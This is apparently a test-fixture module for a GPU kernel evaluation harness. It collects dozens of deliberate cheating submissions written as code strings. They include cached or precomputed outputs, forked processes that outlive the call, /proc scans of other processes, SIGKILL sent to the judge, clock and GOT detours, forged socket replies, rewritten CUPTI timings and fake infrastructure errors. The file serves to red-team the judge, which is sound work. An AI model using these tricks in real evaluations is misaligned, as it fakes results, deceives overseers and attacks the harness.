"""Answers to a module task that cheat.

Each tries to pass, to look faster, or to blame the judge for its failure, without doing the work.

`MODULES` has one entry for each cheat. scripts/attack_table.py runs them all and reports for each whether it was paid,
that is, got a verdict or a speed-up that it should not get. tests/judge/test_cheats.py runs some of them on the CPU,
tests/gpu the others. The statements of a cheat are kept as strings, since they run in the answer's process.
"""

from dataclasses import dataclass
from pathlib import Path
from textwrap import indent


REFERENCE = """
import torch
import torch.nn as nn


class Model(nn.Module):
    def __init__(self, features, scale):
        super().__init__()
        self.linear = nn.Linear(features, 64)
        self.scale = scale

    def forward(self, x):
        y = torch.relu(self.linear(x)) * self.scale
        for _ in range(8):
            y = torch.sin(y) + y
        return y


def get_inputs():
    return [torch.randn(512, 32)]


def get_init_inputs():
    return [32, 2.0]
"""
# Like REFERENCE, but most of its time goes into reading 24 MB of weights, which fit into an L2 cache.
WIDE = REFERENCE.replace("64)", "4096)").replace("[32,", "[1536,").replace("512, 32", "1, 1536").replace("(8)", "(0)")


def on_a_gpu(code: str) -> str:
    """Return the reference, or an answer to it, with a larger batch, so that the work on a GPU takes long enough to be
    timed.
    """
    return code.replace("512", str(1 << 16))


@dataclass(frozen=True)
class Cheat:
    """One way to cheat.

    Where "passed" is among the verdicts that it may get, the cheat must not be paid: its speed-up must not be above
    `PAID` times that of the honest answer.
    """

    name: str  # in reports and test ids
    group: str  # such as "results of other calls"
    what: str  # it does, for the reader of a report
    verdicts: tuple[str, ...]
    forward: str = "return self.work(x)"  # statements of the model's `forward`; this one does the honest work
    before: str = ""  # code at the beginning of the answer's module
    after: str = ""  # code at its end; `held` is the object that serves the judge in the answer's process
    gpu: bool | None = False  # None: works with a GPU and without one
    escapes: bool = False  # leaves processes behind or looks for others, so that it may only run in the sandbox
    reference: str = REFERENCE  # source of the reference that it answers

    @property
    def code(self) -> str:
        """The source of the answer: the reference as `ModelNew`, with `forward` replaced."""
        body = self.reference[self.reference.index("        y = torch") : self.reference.index("\n\ndef get_inputs")]
        forward = f"{indent(self.forward.strip(), ' ' * 8)}\n\n    def work(self, x):\n{body}"
        answer = f"{self.before}\n{self.reference.replace('class Model(', 'class ModelNew(').replace(body, forward)}"
        return f"{answer}\n{HELD}\n{self.after}\n" if self.after else answer


# Finds the object that serves the judge: an answer can reach everything in its own process.
HELD = """
import sys
frame = sys._getframe()
while "held" not in frame.f_locals:
    frame = frame.f_back
held = frame.f_locals["held"]
"""
# Builds exploits.cu when the answer is imported, keeps it in the folder for extensions, and loads it as `native`.
NATIVE = f"""
import ctypes, os, subprocess, torch
place = os.path.join(os.environ["TORCH_EXTENSIONS_DIR"], "exploits")
if not os.path.exists(place + ".so"):
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place + ".cu", "w") as file:
        file.write({Path(__file__).with_name("exploits.cu").read_text(encoding="utf-8")!r})
    home = os.environ.get("CUDA_HOME")
    compiler = [home + "/bin/nvcc", "-Xcompiler", "-fPIC"] if home else ["c++", "-x", "c++", "-std=c++17", "-fPIC"]
    subprocess.run([*compiler, "-shared", "-O1", "-o", place + ".so", place + ".cu"], check=True)
native = ctypes.CDLL(place + ".so")
native.scan_heap.restype = native.scan_stack.restype = ctypes.c_size_t
pointer, size = ctypes.c_void_p, ctypes.c_size_t
def replace(how, **names):
    for name, to in names.items():
        print(name, how(name.encode(), ctypes.cast(getattr(native, to), pointer)))
"""
SEED = 7  # seed of the judge that runs the cheats; guessed_seed_of_the_evaluation relies on it
PAID = 1.3  # an answer that passes does the reference's work, so a larger speed-up than this was obtained by cheating
WRONG = ("mismatch",)
FAILS = ("mismatch", "runtime_error", "timeout")
HARNESS = "the harness's own process"  # group of the cheats that attack the process they run in
RIGHT = ("passed",)  # the cheat has no effect: the answer is right and gets what an honest one gets

MODULES = [
    # ------------------------------------------------------------------------------------------ work at another time
    Cheat("thread_ahead", "work at another time", "a thread computes on the inputs' tensors before the clock runs", WRONG,
        before="import threading, time",
        forward="""
self.calls = getattr(self, "calls", 0) + 1
if self.calls == 2:
    self.given, self.out = x, self.work(x)
    def ahead():
        while True:
            self.out = self.work(self.given)
            time.sleep(0.0005)
    threading.Thread(target=ahead, daemon=True).start()
return self.out.clone() if self.calls > 2 else self.work(x)
"""),
    Cheat("call_before_ready", "work at another time", "calls the model before it says that the inputs are there", WRONG,
        after="""
def call(use, fresh, arguments, blobs=(), real=held.call):
    model = held.models["model"]
    made = model.work(*(held.host(row, raw).to(held.device) for row, raw in zip(arguments["tensors"], blobs)))
    held.models["model"] = lambda *_: made
    try:
        return real(use, fresh, arguments, blobs)
    finally:
        held.models["model"] = model
held.call = call
"""),
    Cheat("digest_first", "work at another time", "sends 32 bytes as a digest before the key has come, and works then", FAILS,
        after="""
def key(size, real=held.channel.key):
    held.channel.socket.sendall(bytes(range(32)))
    return real(size)
held.channel.key, held.digest = key, lambda tensors: b""
"""),
    Cheat("digest_of_earlier", "work at another time", "sends the digest of the last outputs at once, works when outputs are asked for", WRONG,
        after="""
state = {}
def work(*values):
    state["values"] = [value.clone() for value in values]
    return state.setdefault("out", state["model"].work(*values))
def outputs(blobs=(), real=held.outputs):
    state["out"].copy_(state["model"].work(*state["values"]))
    return real()
def build(model, arguments, double, blobs=(), real=held.build):
    found = real(model, arguments, double, blobs)
    state["model"], held.models["model"] = held.models["model"], work
    return found
held.build, held.outputs = build, outputs
"""),
    Cheat("no_unmask", "work at another time", "leaves the mask on, and its time out", WRONG,
        after="held.unmask = lambda *_: None"),
    Cheat("forked_worker", "work at another time", "a child process that outlives the call computes on shared memory", FAILS, escapes=True,
        before="import os",
        forward="""
self.calls = getattr(self, "calls", 0) + 1
if self.calls == 2 and not x.is_cuda:
    self.given, self.out = x.share_memory_(), self.work(x).share_memory_()
    if not os.fork():
        while True:
            self.out.copy_(self.work(self.given))
return self.out.clone() if self.calls > 2 and not x.is_cuda else self.work(x) if self.calls < 3 else torch.zeros_like(self.work(x))
"""),
    # ------------------------------------------------------------------------------------------ results of other calls
    Cheat("results_on_disk", "results of other calls", "keeps a result in a file, by the shape of the inputs", WRONG,
        before="import os, tempfile",
        forward="""
place = os.path.join(tempfile.gettempdir(), f"kept-{tuple(x.shape)}.pt")
if os.path.exists(place):
    return torch.load(place).to(x.device)
out = self.work(x)
torch.save(out.cpu(), place)
return out
"""),
    Cheat("results_by_version", "results of other calls", "keeps a result by address and tensor version, which each content changes", RIGHT,
        forward="""
known = self.__dict__.setdefault("known", {})
key = x.data_ptr(), x._version
if key not in known:
    known[key] = self.work(x)
return known[key].clone()
"""),
    Cheat("results_by_first_row", "results of other calls", "computes the first rows alone and takes the rest from the call before", WRONG,
        forward="""
last = getattr(self, "last", None)
self.last = self.work(x) if last is None else torch.cat([self.work(x[:8]), last[8:]])
return self.last.clone()
"""),
    Cheat("one_in_eight_skipped", "results of other calls", "returns zeros in every eighth call", WRONG,
        forward="""
self.calls = getattr(self, "calls", 0) + 1
return torch.zeros_like(self.work(x)) if self.calls % 8 == 0 else self.work(x)
"""),
    Cheat("guessed_seeds", "results of other calls", "draws the inputs ahead from likely seeds and from what it is told", RIGHT,
        forward="""
for seed in (*range(50), 42, 1234, torch.initial_seed(), torch.initial_seed() + 1):
    generator = torch.Generator().manual_seed(seed % 2**63)
    assert not torch.equal(torch.randn(512, 32, generator=generator), x.cpu()), f"the inputs are those of seed {seed}"
return self.work(x)
"""),
    Cheat("guessed_seed_of_the_evaluation", "results of other calls", "draws the inputs ahead from the seed that the judge was given, by its own rule", RIGHT,
        forward="""
import hashlib
for number in range(20):
    seed = int.from_bytes(hashlib.blake2s(f"7 cheated {number} content".encode(), digest_size=8).digest(), "big") >> 1
    generator = torch.Generator().manual_seed(seed)
    assert not torch.equal(torch.randn(512, 32, generator=generator), x.cpu()), f"the inputs are those of call {number}"
return self.work(x)
"""),
    Cheat("graph_on_old_inputs", "results of other calls", "replays a CUDA graph without the new inputs", WRONG, gpu=True,
        forward="""
if not hasattr(self, "graph"):
    self.given, self.graph = x.clone(), torch.cuda.CUDAGraph()
    self.work(self.given)
    torch.cuda.synchronize()
    with torch.cuda.graph(self.graph):
        self.out = self.work(self.given)
self.graph.replay()
return self.out.clone()
"""),
    # ------------------------------------------------------------------------------------------ outputs that are not what they seem
    Cheat("view_changed_later", "outputs that change", "returns a view of a buffer that the next call writes", WRONG,
        forward="""
if not hasattr(self, "space"):
    self.space = torch.empty(2 * 512, 64, device=x.device)
self.space[:512] = self.work(x)
return self.space[:512]
"""),
    Cheat("input_as_output", "outputs that change", "puts the result into the input, and returns a view of it", WRONG,
        forward="""
out = self.work(x)
x.copy_(out[:, :32])
return torch.cat([x, out[:, 32:]], dim=1)
"""),
    Cheat("deferred_by_hook", "outputs that change", "an output whose values are made when it is copied to the host", FAILS,
        after="""
def flatten(value, name="output", real=held.flatten):
    state["value"] = value
    return real(torch.zeros_like(value))
def raw(tensor, real=held.raw):
    return real(state.get("value", tensor))
state = {}
held.flatten, held.raw = flatten, raw
"""),
    Cheat("plain_type_pretended", "outputs that change", "a lazy subclass of a tensor, past the worker's own check", FAILS,
        forward="return torch.zeros_like(self.work(x)).as_subclass(type('Late', (torch.Tensor,), {}))",
        after="held.flatten = lambda value, name='output': [(name, value)]"),
    Cheat("huge_by_stride", "outputs that change", "a tensor of 2^50 elements in four bytes", FAILS,
        forward="return self.work(x)[:1, :1].expand(2**25, 2**25)"),
    Cheat("shape_lie", "outputs that change", "says another shape than that of the bytes it sends", FAILS,
        after="""
def outputs(blobs=(), real=held.outputs):
    said, raw = real()
    said["outputs"][0]["shape"] = [256, 128]
    return said, raw
held.outputs = outputs
"""),
    Cheat("nan_everywhere", "outputs that change", "NaN, which is neither larger nor smaller than any tolerance", WRONG,
        forward="return self.work(x) * float('nan')"),
    # ------------------------------------------------------------------------------------------ the judge's side
    Cheat("other_processes", "reaching the judge", "looks for memory, sockets and files of other processes through /proc", RIGHT, escapes=True,
        before="""
import os
OWN, REACHED = os.getpid(), []
for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("mem", "environ", "fd", "maps"):
        path = f"/proc/{number}/{name}"
        try:
            if int(number) != OWN and os.stat(f"/proc/{number}").st_uid == os.getuid() and b"answer" not in open(f"/proc/{number}/cmdline", "rb").read():
                os.listdir(path) if name == "fd" else open(path, "rb").read(1)
                if b"worker.py" not in open(f"/proc/{number}/cmdline", "rb").read():
                    REACHED.append((path, open(f"/proc/{number}/cmdline", "rb").read()[:100]))
        except (OSError, ValueError):
            pass
"""),
    Cheat("reference_by_gc", "reaching the judge", "looks for the reference, expected outputs or seeds among all objects and files it has", RIGHT,
        before="import gc, os",
        forward="""
names = {type(thing).__name__ for thing in gc.get_objects()}
assert "Model" not in names, "the reference is in this process"
opened = [os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if os.path.exists(f"/proc/self/fd/{n}")]
assert not any("expected" in path or "given" in path for path in opened), opened
return self.work(x)
"""),
    Cheat("ends_the_judge", "reaching the judge", "sends signals to its parent, its group and all processes", FAILS, escapes=True,
        before="import os, signal",
        forward="""
for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
return torch.zeros_like(self.work(x))
"""),
    Cheat("files_through_the_socket", "reaching the judge", "sends open files with its replies, without end", FAILS + RIGHT,
        before="import os, socket",
        after="""
opened = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
class Sends(socket.socket):
    def sendall(self, raw):
        raw = bytes(raw)
        super().sendall(raw[socket.send_fds(self, [raw], opened) :])
def outputs(blobs=(), real=held.outputs):
    held.channel.socket = Sends(fileno=held.channel.socket.detach())
    return real()
held.outputs = outputs
"""),
    Cheat("writes_at_its_end", "reaching the judge", "writes into the judge's socket when its process ends", RIGHT,
        before="import atexit, os",
        after="atexit.register(lambda: held.channel.socket.sendall(b'x' * 1000))"),
    Cheat("replies_twice", "reaching the judge", "a second reply behind each, for the next request", FAILS,
        after="""
def outputs(blobs=(), real=held.outputs):
    said, raw = real()
    held.channel.send(said, list(raw))
    return said, [held.raw(tensor) for _, tensor in held.named]
held.outputs = outputs
"""),
    Cheat("drips", "reaching the judge", "sends its digest a byte at a time", FAILS + RIGHT,
        before="import time",
        after="""
def digest(tensors, real=held.digest):
    found = real(tensors)
    for byte in found[:-1]:
        held.channel.socket.sendall(bytes([byte]))
        time.sleep(0.02)
    return found[-1:]
def call(use, fresh, arguments, blobs=(), real=held.call):
    held.digest = digest
    try:
        return real(use, fresh, arguments, blobs)
    finally:
        del held.digest
held.call = call
"""),
    # ------------------------------------------------------------------------------------------ the harness's own process
    Cheat("patched_got", HARNESS, "has all libraries call a slow clock and an event without time of its own (global offset tables)", RIGHT, gpu=None,
        before=NATIVE + 'replace(native.patch_got, clock_gettime="slow_clock", cudaEventElapsedTime="no_time")'),
    Cheat("detoured_clock", HARNESS, "writes jumps to a slow clock and to events without time over the functions' code", (*RIGHT, "runtime_error"), gpu=None,
        before=NATIVE + 'replace(native.detour, clock_gettime="slow_clock", cudaEventElapsedTime="no_time")'),
    Cheat("detoured_waits", HARNESS, "writes jumps over what waits for the GPU, and leaves its work on a stream of its own", FAILS, gpu=True,
        before=NATIVE + """
waits = ("cudaDeviceSynchronize", "cudaStreamSynchronize", "cudaEventSynchronize", "cudaStreamWaitEvent")
replace(native.detour, **dict.fromkeys(waits, "no_wait"))
""",
        forward="""
side = torch.cuda.Stream()
with torch.cuda.stream(side):
    torch.cuda._sleep(40_000_000)
    return self.work(x)
"""),
    Cheat("heap_scan", HARNESS, "computes two rows, and looks for the whole result around them in its process's memory", WRONG, gpu=None,
        before=NATIVE,
        forward="""
rows = self.work(x[[0, 300]]).cpu().contiguous()
out, size_of_row = torch.zeros(len(x), 64), 4 * 64
found = native.scan_heap(pointer(rows.data_ptr()), pointer(rows[1].data_ptr()), size(300 * size_of_row), 64)
if found:
    ctypes.memmove(out.data_ptr(), found, len(x) * size_of_row)
return out.to(x.device)
"""),
    Cheat("stack_scan", HARNESS, "computes two rows, and looks for the whole result among the tensors that its stack knows", WRONG, gpu=None,
        before=NATIVE,
        forward="""
rows, found = self.work(x[[0, 300]]), (pointer * 10000)()
count = native.scan_stack(pointer(id(torch.Tensor)), found, size(10000))
known = [ctypes.cast(found[number], ctypes.py_object).value for number in range(count)]
for one in known:
    if one.shape == (len(x), 64) and torch.allclose(one[[0, 300]].to(rows), rows, atol=1e-4):
        return one.to(x.device).clone()
return torch.zeros(len(x), 64, device=x.device)
"""),
    Cheat("device_scan", HARNESS, "computes two rows, and looks for the whole result in device memory that others have freed", WRONG, gpu=True,
        forward="""
rows, size, out = self.work(x[[0, 300]]), 64 * len(x), torch.zeros(len(x), 64, device=x.device)
blocks = []
while torch.cuda.mem_get_info()[0] > 4 << 30 and len(blocks) < 16:
    blocks.append(torch.empty(1 << 28, device=x.device))
for block in blocks:
    first = (block[:-size] - rows[0, 0]).abs() < 1e-4
    both = first & ((block[300 * 64 : 300 * 64 - size] - rows[1, 0]).abs() < 1e-4)
    for place in both.nonzero()[:50, 0].tolist():
        if torch.allclose(block[place : place + 64], rows[0], atol=1e-4):
            out = block[place : place + size].reshape(len(x), 64).clone()
del blocks
torch.cuda.empty_cache()
return out
"""),
    Cheat("method_descriptors", HARNESS, "overwrites methods of the built-in tensor type: the work is done when the output is copied to the host", WRONG, gpu=None,
        before="""
import ctypes, gc, torch
base, late = torch._C.TensorBase, {}
methods, real = gc.get_referents(base.__dict__)[0], base.cpu
def cpu(tensor, *rest, **more):
    model, x = late.pop(tensor.untyped_storage().data_ptr(), (None, None))
    return real(model.work(x).detach() if model else tensor, *rest, **more)
methods["cpu"] = cpu
ctypes.pythonapi.PyType_Modified(ctypes.py_object(base))
""",
        forward="""
out = torch.zeros(len(x), 64, device=x.device)
late[out.untyped_storage().data_ptr()] = self, x
return out
"""),
    Cheat("file_descriptors", HARNESS, "writes replies and times that it would like into every open file, pipe and socket of its process", FAILS, gpu=None,
        before="""
import json, os, stat
reply = json.dumps({"outputs": [], "inputs": []}).encode()
FORGED = (b"0.000001 " + b"00" * 32 + b"\\n", bytes(range(32)), len(reply).to_bytes(8, "big") + reply)
def forge():
    for number in map(int, os.listdir("/proc/self/fd")):
        try:
            kind = os.fstat(number).st_mode
            if number > 2 and (stat.S_ISREG(kind) or stat.S_ISFIFO(kind) or stat.S_ISSOCK(kind)):
                for forged in FORGED:
                    os.write(number, forged)
        except OSError:
            pass
""",
        forward="forge()\nreturn torch.zeros(len(x), 64, device=x.device)"),
    Cheat("kept_in_l2", HARNESS, "has its weights stay in the L2 cache (persisting accesses), past the flush before each call", RIGHT, gpu=True, reference=WIDE,
        before=NATIVE,
        forward="""
if not hasattr(self, "stream"):
    self.stream, weight = torch.cuda.Stream(), self.linear.weight
    assert not native.keep_in_l2(pointer(weight.data_ptr()), size(weight.numel() * 4), pointer(self.stream.cuda_stream))
callers = torch.cuda.current_stream()
self.stream.wait_stream(callers)
with torch.cuda.stream(self.stream):
    out = self.work(x)
callers.wait_stream(self.stream)
return out
"""),
    # ------------------------------------------------------------------------------------------ another's fault
    Cheat("says_no_gpu", "blaming the judge", "fails with the words of a lost GPU", ("runtime_error",),
        forward="raise RuntimeError('CUDA error: no CUDA-capable device is detected; GPU is lost; unknown error')"),
    Cheat("says_disk_full", "blaming the judge", "fails with the words of a full disk and of too little memory", ("runtime_error",),
        forward="raise OSError(28, 'No space left on device: Cannot allocate memory; Killed; out of memory; MemoryError')"),
    Cheat("says_it_was_the_judge", "blaming the judge", "fails with exceptions named as the judge's", FAILS,
        before="class SandboxError(Exception): pass\nclass OracleError(SandboxError): pass\nclass infra_error(OracleError): pass",
        forward="raise infra_error('the sandbox did not say how the process ended')"),
    Cheat("error_without_words", "blaming the judge", "an exception that fails when it is printed", FAILS,
        before="class Mute(BaseException):\n    def __str__(self): raise SystemExit(0)\n    __repr__ = __str__",
        forward="raise Mute"),
    Cheat("words_that_break", "blaming the judge", "a message and a name of half characters, control codes and 3 MB", FAILS,
        before="BAD = '\\ud800\\x00\\x1b[2J' * 10 + 'x' * 3_000_000",
        forward="return {BAD: torch.zeros_like(self.work(x))}"),
    Cheat("maps_odd_names", "blaming the judge", "maps files whose names are no text", RIGHT,
        before="""
import mmap, os
maps = []
for name in (b"\\xff", b"a\\rb"):
    with open(name, "wb+") as file:
        file.write(bytes(4096))
        file.flush()
        maps.append(mmap.mmap(file.fileno(), 4096))
    os.unlink(name)
"""),
    Cheat("deep_nest", "blaming the judge", "outputs nested a million lists deep", FAILS,
        forward="""
out = self.work(x)
for _ in range(1_000_000):
    out = [out]
return out
"""),
    Cheat("many_outputs", "blaming the judge", "returns five thousand tensors", FAILS,
        forward="return [self.work(x[:1])] * 5000"),
    Cheat("slows_the_reference", "blaming the judge", "leaves processes that keep the processors busy", RIGHT, escapes=True,
        before="""
import os
for _ in range(4):
    if not os.fork():
        os.setsid()
        while True:
            pass
"""),
    Cheat("hogs_the_gpu", "blaming the judge", "leaves processes that keep the GPU busy and take its memory", RIGHT, gpu=True,
        before="import os, subprocess, sys",
        forward="""
if not hasattr(self, "left"):
    code = "import os, time; os.setsid(); import torch; x = [torch.empty(2**30, device='cuda') for _ in range(8)]\\nwhile True: torch.cuda._sleep(10**9)"
    self.left = subprocess.Popen([sys.executable, "-s", "-c", code])
return self.work(x)
"""),
    # ------------------------------------------------------------------------------------------ the protocol's own time
    Cheat("no_waiting", "less than the protocol asks for", "does not wait for the GPU between the steps of a call", FAILS + RIGHT, gpu=True,
        after="held.wait = lambda: None"),
    Cheat("faster_digest", "less than the protocol asks for", "makes the digest with memory of its own that is there already", RIGHT, gpu=True,
        after="""
space = {}
real_empty = torch.empty
def empty(size, *a, **k):
    if not k.get("device") or not isinstance(size, int):
        return real_empty(size, *a, **k)
    if size not in space:
        space[size] = real_empty(size, *a, **k)
    return space[size]
class Torch:
    def __getattr__(self, name): return empty if name == "empty" else getattr(torch, name)
held.digest = (lambda real: lambda tensors: (setattr(held, "torch", Torch()), real(tensors), setattr(held, "torch", torch))[1])(held.digest)
"""),
    Cheat("digest_by_own_graph", "less than the protocol asks for", "takes mask and digest into one CUDA graph with the model", RIGHT, gpu=True,
        after="""
state = {}
def digest(tensors, real=held.digest):
    size, key = held.handover.DIGEST_BYTES, tuple(t.data_ptr() for t in tensors)
    if key != state.get("key"):
        state.clear()
        state["key"] = key
        return real(tensors)
    if "graph" not in state:
        state["graph"] = torch.cuda.CUDAGraph()
        flats = [held.flat(t) for t in tensors]
        state["roots"] = roots = torch.empty((len(flats) + 1) * size, dtype=torch.uint8, device=held.device)
        state["space"] = [torch.empty(f.numel() // 15 + 4096, dtype=torch.uint8, device=held.device) for f in (*flats, roots)]
        torch.cuda.synchronize()
        with torch.cuda.graph(state["graph"]):
            for number, flat in enumerate((*flats, roots[:-size])):
                start, between, end = map(held.pointer, (flat.data_ptr(), state["space"][number].data_ptr(), roots.data_ptr() + number * size))
                held.check(held.library.handover_digest(start, held.size(flat.numel()), between, end, held.stream()))
    state["graph"].replay()
    return bytes(state["roots"][-size:].cpu().numpy())
def call(use, fresh, arguments, blobs=(), real=held.call):
    held.wait, held.digest = lambda: None, digest
    try:
        return real(use, fresh, arguments, blobs)
    finally:
        del held.wait, held.digest
held.call = call
""",
        forward="""
self.calls, out = getattr(self, "calls", 0) + 1, self.work(x)
if self.calls <= 5:
    self.out = out.clone()
    return out
return self.out.copy_(out)
"""),
    Cheat("warm_cache", "less than the protocol asks for", "leaves the cache as it is before a call", RIGHT, gpu=True,
        after="held.flush = torch.empty(0, device=held.device)"),
    Cheat("record_rewritten", "less than the protocol asks for", "divides all times in CUPTI's record by ten, and does not wait", FAILS + RIGHT, gpu=True,
        before="""
import atexit, os
def rewrite(path=os.environ.get("CUSET_GPU_ACTIVITY")):
    if path and os.path.exists(path):
        lines = open(path).read().splitlines()
        with open(path, "w") as file:
            for line in lines:
                part = line.split(" ")
                if part[0] in "KCS":
                    part[2] = str(int(part[1]) + (int(part[2]) - int(part[1])) // 10)
                file.write(" ".join(part) + "\\n")
atexit.register(rewrite)
""",
        after="held.wait = lambda: None"),
    # ------------------------------------------------------------------------------------------ less than the task asks for
    Cheat("half", "lower precision", "computes the product in half", FAILS + RIGHT,
        forward="""
weight, bias = self.linear.weight, self.linear.bias
y = torch.relu(torch.nn.functional.linear(x.half().float(), weight.half().float(), bias)) * self.scale
for _ in range(8):
    y = torch.sin(y) + y
return y
"""),
    Cheat("tf32", "lower precision", "computes the product with tensor cores in TF32", FAILS + RIGHT, gpu=True,
        forward="torch.backends.cuda.matmul.allow_tf32 = True\nreturn self.work(x)"),
]  # fmt: skip
